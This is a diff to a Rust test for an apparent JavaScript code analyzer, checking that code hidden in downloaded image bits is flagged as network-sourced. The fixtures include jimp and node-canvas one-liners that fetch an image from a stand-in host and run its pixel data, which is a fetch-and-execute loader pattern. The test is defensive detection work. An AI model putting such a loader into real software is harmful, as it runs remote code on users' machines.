@@ -2268,15 +2268,30 @@ fn code_hidden_in_downloaded_image_bits_is_code_from_the_network() {
         "{:#?}",
         f.dynamic_code
     );
+    // An image library that downloads the URL it is given (jimp, node-canvas).
+    for source in [
+        "const Jimp = require('jimp'); Jimp.read('https://s.example.net/cat.png').then((img) => run(img.bitmap.data));",
+        "const { loadImage } = require('canvas'); (async () => { const img = await loadImage('https://s.example.net/cat.png'); run(img.src); })();",
+    ] {
+        let f = run(&loader(source));
+        assert!(
+            f.dynamic_code.iter().any(|d| d.from_network),
+            "{source}\n{:#?}",
+            f.dynamic_code
+        );
+    }
     // The same bits of a bundled image are not from the network.
-    let f = run(&loader(
+    for source in [
         "run(require('fs').readFileSync(__dirname + '/cat.png'));",
-    ));
-    assert!(
-        !f.dynamic_code.iter().any(|d| d.from_network),
-        "{:#?}",
-        f.dynamic_code
-    );
+        "require('jimp').read(__dirname + '/cat.png').then((img) => run(img.bitmap.data));",
+    ] {
+        let f = run(&loader(source));
+        assert!(
+            !f.dynamic_code.iter().any(|d| d.from_network),
+            "{source}\n{:#?}",
+            f.dynamic_code
+        );
+    }
 }
 
 /// A variable declared bare and assigned once (`var x; x = require("os")`, bundlers' lazy
